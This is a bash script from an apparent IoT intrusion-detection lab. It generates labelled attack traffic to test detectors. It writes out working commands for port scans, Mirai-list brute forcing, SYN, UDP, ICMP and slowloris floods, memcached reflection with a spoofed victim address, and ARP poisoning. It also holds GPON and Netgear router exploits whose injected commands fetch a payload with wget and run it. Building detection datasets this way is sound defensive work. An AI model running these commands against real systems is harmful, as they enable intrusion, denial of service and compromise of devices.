# shellcheck shell=bash
# Scenario `variants` (third session): the same kinds of attack as `full` and
# `full2`, made by other tools, other options and other rates, so the
# detectors are measured on traffic they were not tuned on. Each is a real
# tool from Debian (nmap, masscan, hydra, hping3, iputils ping, slowhttptest,
# mosquitto_pub, curl, arpspoof) or, for the reflector, the real memcached.

# Extra services the variant attacks need, started only in this scenario so
# the other scenarios' traffic stays as it was: an RTSP server on the camera,
# a web login form on the DVR, and a VNC server and memcached (UDP enabled,
# as in the 2018 amplification attacks) on the home server.
start_variant_services() {
    bg cam cam-rtsp python3 "$LAB/py/loginsvc.py" rtsp "${IP[cam]}" 554 admin 12345
    bg dvr dvr-web python3 "$LAB/py/loginsvc.py" form "${IP[dvr]}" 80 admin admin
    bg srv srv-vnc python3 "$LAB/py/loginsvc.py" vnc "${IP[srv]}" 5900
    bg srv srv-memcached memcached -u root -l "${IP[srv]}" -p 11211 -U 11211 -m 64 -I 2m
}

# --- recon: other nmap scan types, slow timing, masscan -----------------------
nmap_variant() {
    local label=$1 victim=$2 ports=$3 what=$4 limit=$5; shift 5
    labelled "$label" recon "${IP[atk]}" "${IP[$victim]}" "$ports" nmap "$what" atk "$limit" -- \
        nmap -n -e eth0 -Pn "$@" "${IP[$victim]}"
}
attack_nmap_connect_scan() { nmap_variant nmap-connect-scan cam 1-1024 "TCP connect scan (-sT), full handshakes" 120 -sT -p 1-1024 -T4; }
attack_nmap_udp_scan() { nmap_variant nmap-udp-scan gw "top 100 UDP" "UDP scan (-sU) of the 100 commonest UDP ports" 240 -sU --top-ports 100 --max-retries 1 -T4; }
attack_nmap_ack_scan() { nmap_variant nmap-ack-scan cam 1-1024 "ACK scan (-sA), firewall mapping" 120 -sA -p 1-1024 -T4; }
attack_nmap_null_scan() { nmap_variant nmap-null-scan hub 1-1024 "NULL scan (-sN), no flags set" 180 -sN -p 1-1024 -T4; }
attack_nmap_fin_scan() { nmap_variant nmap-fin-scan srv 1-1024 "FIN scan (-sF)" 180 -sF -p 1-1024 -T4; }
attack_nmap_xmas_scan() { nmap_variant nmap-xmas-scan dvr 1-1024 "Xmas scan (-sX), FIN+PSH+URG" 180 -sX -p 1-1024 -T4; }
attack_nmap_version_scan() { nmap_variant nmap-version-scan cam "22;80;161;554" "service/version detection (-sV) of the camera's services" 240 -sV -p 22,80,554 -T4; }
attack_nmap_slow_scan() { nmap_variant nmap-slow-scan dvr 1-100 "slow SYN scan (-T2 polite timing, 0.4 s between probes)" 200 -sS -p 1-100 -T2; }

attack_masscan_slow() {
    labelled masscan-slow recon "${IP[atk]}" "${IP[plug]}" 1-2000 masscan \
        "masscan SYN scan at 150 packets/s, its own TCP stack (the attacker's kernel resets the answers)" atk 120 -- \
        masscan --adapter eth0 --adapter-ip "${IP[atk]}" --adapter-mac "${MAC[atk]}" \
        --router-mac "${MAC[plug]}" -p 1-2000 --rate 150 --wait 2 "${IP[plug]}"
}

# masscan sends every probe to its router's MAC, as on any network it scans
# through a gateway; the bridge still carries the probes past the capture.
attack_masscan_sweep() {
    labelled masscan-sweep recon "${IP[atk]}" "$NET.0/24" "23;2323;80;8080" masscan \
        "masscan sweep of the /24 for telnet and web ports at 300 packets/s, every frame to the gateway's MAC" atk 120 -- \
        masscan --adapter eth0 --adapter-ip "${IP[atk]}" --adapter-mac "${MAC[atk]}" \
        --router-mac "${MAC[gw]}" -p 23,2323,80,8080 --rate 300 --wait 2 "$NET.0/24"
}

# --- brute force: other protocols, a slow guesser ------------------------------
attack_hydra_rtsp() {
    local creds; creds=$(creds_head 61)
    labelled hydra-rtsp bruteforce "${IP[atk]}" "${IP[cam]}" 554 hydra \
        "RTSP Basic auth guessing with the Mirai list (61 pairs); admin:12345 succeeds" atk 240 -- \
        sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 4 -o '$W/atk/hydra-rtsp.txt' rtsp://${IP[cam]}"
}

attack_hydra_http_form() {
    local creds; creds=$(creds_head 61)
    labelled hydra-http-form bruteforce "${IP[atk]}" "${IP[dvr]}" 80 hydra \
        "HTTP POST login-form guessing (/login.cgi) with the Mirai list (61 pairs); admin:admin succeeds" atk 240 -- \
        sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 4 -o '$W/atk/hydra-form.txt' ${IP[dvr]} http-post-form '/login.cgi:username=^USER^&password=^PASS^:F=Login failed'"
}

attack_hydra_vnc() {
    cut -d: -f2 "$LAB/data/mirai-credentials.txt" | awk 'NF && !seen[$0]++' >"$W/atk/vnc-passwords.txt"
    labelled hydra-vnc bruteforce "${IP[atk]}" "${IP[srv]}" 5900 hydra \
        "VNC password guessing (the Mirai list's passwords); the server refuses every one" atk 240 -- \
        sh -c "cd '$W/atk' && exec hydra -I -P '$W/atk/vnc-passwords.txt' -t 4 -o '$W/atk/hydra-vnc.txt' vnc://${IP[srv]}"
}

attack_hydra_ssh_slow() {
    local creds; creds=$(creds_head 16)
    labelled hydra-ssh-slow bruteforce "${IP[atk]}" "${IP[cam]}" 22 hydra \
        "slow SSH guessing: one task, 3 s between attempts (hydra -t 1 -c 3), 16 pairs" atk 240 -- \
        sh -c "cd '$W/atk' && exec hydra -I -C '$creds' -t 1 -c 3 -o '$W/atk/hydra-ssh-slow.txt' ssh://${IP[cam]}"
}

# hydra has no MQTT module: guess with the broker's own client, one CONNECT
# per password, as MQTT brute-force scripts do.
attack_mqtt_guess() {
    labelled mqtt-guess bruteforce "${IP[atk]}" "${IP[srv]}" 1883 mosquitto_pub \
        "MQTT CONNECT password guessing as admin with the Mirai list's passwords (mosquitto_pub, one connection each)" atk 120 -- \
        sh -c "cut -d: -f2 '$LAB/data/mirai-credentials.txt' | awk 'NF && !seen[\$0]++' | while read -r p; do
            mosquitto_pub -h ${IP[srv]} -u admin -P \"\$p\" -t t -m x -q 0 2>/dev/null; done; true"
}

# --- DoS: other rates, random sources, big packets, slow HTTP, memcached ------
attack_syn_flood_slow() {
    labelled syn-flood-slow dos "${IP[atk]}" "${IP[hub]}" 80 hping3 \
        "low-rate SYN flood: 100 packets/s for 30 s (3 000 packets)" atk 120 -- \
        hping3 -q -S -p 80 -c 3000 -i u10000 "${IP[hub]}"
}

attack_syn_flood_fast() {
    labelled syn-flood-fast dos "${IP[atk]}" "${IP[cam]}" 22 hping3 \
        "high-rate SYN flood: 20 000 packets at a 50 us gap" atk 120 -- \
        hping3 -q -S -p 22 -c 20000 -i u50 "${IP[cam]}"
}

attack_udp_flood_spoofed() {
    labelled udp-flood-spoofed dos "${IP[atk]}" "${IP[plug]}" 9999 hping3 \
        "UDP flood with random spoofed sources (the attacker's MAC is the real sender), 128-byte payloads, 4 000 packets" atk 120 -- \
        hping3 -q --udp --rand-source -p 9999 -d 128 -c 4000 -i u500 "${IP[plug]}"
}

attack_icmp_flood_big() {
    labelled icmp-flood-big dos "${IP[atk]}" "${IP[cam]}" "" hping3 \
        "ICMP echo flood with 1 400-byte payloads, 3 000 packets" atk 120 -- \
        hping3 -q -1 -d 1400 -c 3000 -i u1000 "${IP[cam]}"
}

# iputils ping's flood mode with 4 000-byte payloads: every echo leaves in
# three IP fragments, as the "ping of death"-style floods do.
attack_ping_flood_fragmented() {
    labelled ping-flood-fragmented dos "${IP[atk]}" "${IP[spk]}" "" ping \
        "ping -f -s 4000: fragmented ICMP echo flood, 2 000 echoes (3 fragments each)" atk 120 -- \
        ping -f -q -s 4000 -c 2000 "${IP[spk]}"
}

attack_slowloris() {
    labelled slowloris dos "${IP[atk]}" "${IP[cam]}" 80 slowhttptest \
        "slowloris (slowhttptest -H): 300 connections sending unfinished headers every 5 s, for 40 s" atk 120 -- \
        slowhttptest -H -c 300 -r 100 -i 5 -l 40 -x 24 -p 3 -g -o "$W/atk/slowloris" -u "http://${IP[cam]}/"
}

# memcached reflection (2018's record DDoS): the attacker stores a large
# value over TCP, then asks for it over UDP in the victim's name; each small
# `get` comes back as ~15 datagrams of 1 400 bytes to the victim.
attack_memcached_reflection() {
    local req="$W/atk/memcached-get.bin"
    printf '\x00\x01\x00\x00\x00\x01\x00\x00get ward\r\n' >"$req"
    labelled memcached-reflection dos "${IP[atk]}" "${IP[phone]}" 11211 "memcached + hping3" \
        "stores a 20 kB value on the home server's memcached over TCP, then 1 500 UDP 'get' requests (16 bytes) with the phone's address as source; each answer is ~15 datagrams to the phone" \
        atk 120 -- sh -c "python3 -c 'import socket; s=socket.create_connection((\"${IP[srv]}\", 11211), 5); v=b\"A\"*20000; s.sendall(b\"set ward 0 0 %d\\r\\n\" % len(v) + v + b\"\\r\\n\"); print(s.recv(64))' &&
            exec hping3 -q --udp -a ${IP[phone]} -s 40000 -k -p 11211 -E '$req' -d $(stat -c %s "$req") -c 1500 -i u2000 ${IP[srv]}"
}

# --- spoofing and exploits --------------------------------------------------
attack_arp_poisoning_oneway() {
    labelled arp-poisoning-oneway spoofing "${IP[atk]}" "${IP[cam]};${IP[gw]}" "" arpspoof \
        "arpspoof without -r: tells only the camera that the gateway is at the attacker's MAC" \
        atk "$ARPSPOOF_SECS" -- arpspoof -i eth0 -t "${IP[cam]}" "${IP[gw]}"
}

attack_gpon_exploit() {
    labelled gpon-exploit exploit "${IP[atk]}" "${IP[gw]}" 80 curl \
        "GPON diag_Form?images/ authentication bypass + dest_host command injection (CVE-2018-10561/10562), POST to the router" atk 30 -- \
        curl -s -m 5 -o /dev/null -w '%{http_code}\n' -X POST -A "Hello, World" \
        --data 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://'"${IP[atk]}"'/gpon+-O+/tmp/gpon;sh+/tmp/gpon`&ipv=0' \
        "http://${IP[gw]}/GponForm/diag_Form?images/"
}

attack_netgear_exploit() {
    labelled netgear-exploit exploit "${IP[atk]}" "${IP[gw]}" 80 curl \
        "Netgear DGN setup.cgi todo=syscmd command execution (as Mozi sends it) against the router" atk 30 -- \
        curl -s -m 5 -o /dev/null -w '%{http_code}\n' --path-as-is \
        "http://${IP[gw]}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://${IP[atk]}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"
}

# --- added after runs 61-62 ----------------------------------------------------
# A UDP flood on one flow (fixed source port, as Mirai's udpplain sends from
# a connected socket): no new flows after the first packet.
attack_udp_flood_oneflow() {
    labelled udp-flood-oneflow dos "${IP[atk]}" "${IP[hub]}" 5683 hping3 \
        "UDP flood on a single flow (hping3 -s 40000 -k), 512-byte payloads, 2 000 packets/s for 3 s" atk 120 -- \
        hping3 -q --udp -s 40000 -k -p 5683 -d 512 -c 6000 -i u500 "${IP[hub]}"
}

# PSH+ACK segments with data to a port with no connection (a "PSH-ACK flood").
attack_psh_ack_flood() {
    labelled psh-ack-flood dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
        "TCP PSH+ACK flood with 100-byte payloads (no connection), 5 000 packets" atk 120 -- \
        hping3 -q -P -A -d 100 -p 80 -c 5000 -i u500 "${IP[cam]}"
}

# A sweep of the subnet for open DNS resolvers (reflector hunting).
attack_udp_dns_sweep() {
    labelled udp-dns-sweep recon "${IP[atk]}" "$NET.0/24" 53 nmap \
        "UDP sweep of the /24 for DNS servers (nmap -sU -p 53), as reflector hunters do" atk 180 -- \
        nmap -n -e eth0 -Pn -sU -p 53 --max-retries 1 -T4 "$NET.0/24"
}

attack_icmp_flood_spoofed() {
    labelled icmp-flood-spoofed dos "${IP[atk]}" "${IP[spk]}" "" hping3 \
        "ICMP echo flood with random spoofed sources (the attacker's MAC is the real sender), 4 000 packets" atk 120 -- \
        hping3 -q -1 --rand-source -c 4000 -i u500 "${IP[spk]}"
}
